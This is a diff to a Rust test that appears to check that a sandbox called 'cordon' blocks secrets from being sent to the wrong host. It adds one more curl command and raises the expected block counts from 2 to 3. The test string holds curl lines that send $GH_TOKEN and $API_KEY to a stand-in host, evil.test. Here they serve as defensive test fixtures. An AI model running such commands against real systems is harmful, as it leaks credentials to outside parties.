@@ -424,7 +424,8 @@ both!(
          curl -sS --data \"token=$GH_TOKEN\" https://api.test:{p}/echo; \
          curl -sS -D - -H \"authorization: Bearer $API_KEY\" https://api.test:{p}/whoami | tr -d '\\r'; \
          curl -sS -H \"authorization: Bearer $API_KEY\" https://evil.test:{p}/hello | head -1; \
-         curl -sS --data \"{{\\\"k\\\": \\\"$GH_TOKEN\\\"}}\" https://evil.test:{p}/echo | head -1"
+         curl -sS --data \"{{\\\"k\\\": \\\"$GH_TOKEN\\\"}}\" https://evil.test:{p}/echo | head -1; \
+         curl -sS -H \"authorization: Bearer $API_KEY\" http://api.test:{p}/hello | head -1"
     );
         let o = env
             .cordon([
@@ -486,7 +487,7 @@ both!(
         // the placeholder nor the value reached it.
         assert_eq!(
             out.matches("cordon blocked this request").count(),
-            2,
+            3,
             "{out}"
         );
         for r in got.iter().filter(|r| r["host"] == format!("evil.test:{p}")) {
@@ -502,7 +503,7 @@ both!(
             ev.iter()
                 .filter(|e| e["code"] == "net_secret_wrong_host")
                 .count(),
-            2,
+            3,
             "{ev:#?}"
         );
         let findings = std::fs::read_to_string(env.last_session().join("audit.jsonl")).unwrap();
